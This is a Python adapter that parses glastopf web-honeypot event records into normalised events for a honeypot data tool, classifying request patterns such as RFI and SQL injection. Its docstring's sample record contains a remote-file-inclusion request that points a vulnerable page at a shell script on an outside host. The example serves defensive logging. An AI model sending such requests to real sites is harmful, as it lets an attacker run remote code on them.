"""The `glastopf` format: glastopf's hpfeeds payload (channel glastopf.events), one per request.

glastopf publishes `AttackEvent.event_dict()` (glastopf/modules/events/attack.py):

    {"time": "2026-11-27 22:42:54", "source": ["198.51.100.7", 50781],
     "request_url": "/index.php?page=http://203.0.113.5/shell.txt?",
     "request_raw": "GET /index.php?page=http://203.0.113.5/shell.txt? HTTP/1.1\\r\\nHost: ...\\r\\n\\r\\n",
     "pattern": "rfi", "filename": "<md5 of the file glastopf fetched>", "version": "3.1.2",
     "sensorid": "...", "known_file": false}

Older glastopf sends `request: {method, url, header: {...}, body, parameters, version}`
instead of `request_url`/`request_raw`; both are read.

One payload becomes one event:

    pattern                              kind          signature   outcome
    rfi, lfi, sqli, xss, php_cgi_rce     exploit       the pattern unknown
    unknown                              web_request   none        unknown
    any other (robots, phpmyadmin,       web_request   the pattern unknown
    tomcat_manager, login, comments, ...)

`pattern` is the glastopf emulator that matched the request (requests.xml), so it is the
sensor's signature for every request it recognised; `unknown` means none matched. The
other fields: `action` is the HTTP method, `url` is the requested path made absolute with
the Host header when it names a host ("http://host/path", as MHN does), `user_agent` comes
from the User-Agent header, `protocol` is http and `transport` tcp. When glastopf fetched
the file an RFI pointed at, `filename` is that file's MD5 and becomes `md5`.

Decisions worth knowing:
- `time` is the sensor's local time without a zone: it is read in
  `ingest.sensor_timezone`.
- glastopf never reports the port it listens on: `dst_port` is 80, its default, without a
  warning; `dst_ip` stays empty.
- Method and headers are read from at most the first 64 lines / 16 KiB of `request_raw`;
  a malformed request only loses the fields it cannot give. A Host header that is not a
  host name is not used to build `url` (the path alone is kept, with a warning).
- The request body, `sensorid`, `version` and `known_file` have no event field; `raw` keeps
  them.

This module does no I/O and keeps no state between records.
"""

from __future__ import annotations

import re
from typing import Any

from honeyatlas.adapters import Adapter, RecordContext
from honeyatlas.adapters import extract as get
from honeyatlas.adapters.fields import make_event, parse_hash, parse_timestamp
from honeyatlas.errors import RecordRejected
from honeyatlas.event import Event, Kind

EXPLOIT_PATTERNS = frozenset({"rfi", "lfi", "sqli", "xss", "php_cgi_rce"})
DEFAULT_PORT = 80  # glastopf's default listening port; its payload never names one
_HEAD_CHARS = 16384
_HEAD_LINES = 64
_METHOD = re.compile(r"[A-Z][A-Z_-]{0,19}")
# A host name, IPv4 or [IPv6] literal, with an optional port: what may stand before a path.

def _parse_raw(raw: str) -> tuple[str | None, str | None, dict[str, str]]:
    """(method, target, headers with lowercase names) from the head of a raw HTTP request."""
    lines = raw[:_HEAD_CHARS].split("\n", _HEAD_LINES)[:_HEAD_LINES]
    request_line = lines[0].strip().split(" ")
    method = request_line[0] if _METHOD.fullmatch(request_line[0]) else None
    target = request_line[1] if method and len(request_line) > 1 and request_line[1] else None
    headers: dict[str, str] = {}
    for line in lines[1:]:
        line = line.rstrip("\r")
        if not line:
            break
        name, colon, value = line.partition(":")
        if colon:
            headers.setdefault(name.strip().lower(), value.strip())
    return method, target, headers


def _request(record: dict[Any, Any], notes: list[str]) -> tuple[Any, Any, dict[str, Any]]:
    """(method, path, headers) from request_raw, or from the old `request` object."""
    old = record.get("request")
    if isinstance(old, dict):
        header = old.get("header")
        headers = {str(k).lower(): value for k, value in header.items()} if isinstance(header, dict) else {}
        method = old.get("method")
        return method if isinstance(method, str) and _METHOD.fullmatch(method) else None, old.get("url"), headers
    raw = record.get("request_raw")
    if raw is None:
        return None, None, {}
    if not isinstance(raw, str):
        notes.append("request_raw is not text; dropped")
        return None, None, {}
    return _parse_raw(raw)


def adapt(record: Any, ctx: RecordContext) -> list[Event]:
    if not isinstance(record, dict):
        raise RecordRejected("not a JSON object")
    if "request_raw" not in record and "request_url" not in record and not isinstance(record.get("request"), dict):
        raise RecordRejected("not a glastopf event")
    notes: list[str] = []
    method, target, headers = _request(record, notes)
    path = record.get("request_url")
    if path is None:
        path = target
    pattern = get.text(record.get("pattern"), "pattern", notes)
    is_exploit = pattern in EXPLOIT_PATTERNS
    source = record.get("source")
    src_ip, src_port = [*source[:2], None, None][:2] if isinstance(source, list) else (source, None)
    fields = {
        "action": f"glastopf.{method}" if method else "glastopf.request",
        "transport": "tcp",
        "protocol": "http",
        "src_ip": get.address(src_ip, "source", notes),
        "src_port": get.port(src_port, "source port", notes),
        "dst_port": get.port(record.get("dst_port", DEFAULT_PORT), "dst_port", notes),
        "url": get.http_url(get.text(path, "request_url", notes), headers.get("host"), notes),
        "user_agent": get.text(headers.get("user-agent"), "User-Agent", notes),
        "signature": None if pattern == "unknown" else pattern,
        "md5": parse_hash(record.get("filename"), 32),
    }
    ts = parse_timestamp(record.get("time"), ctx.timezone)
    return [make_event(ctx, Kind.EXPLOIT if is_exploit else Kind.WEB_REQUEST, ts=ts, warnings=notes, **fields)]


def detect(record: Any) -> bool:
    return isinstance(record, dict) and "pattern" in record and "source" in record and (
        "request_raw" in record or "request_url" in record or "request" in record
    )


ADAPTER = Adapter(
    name="glastopf",
    description="glastopf hpfeeds channel glastopf.events (one message per HTTP request)",
    adapt=adapt,
    detect=detect,
    priority=30,
)
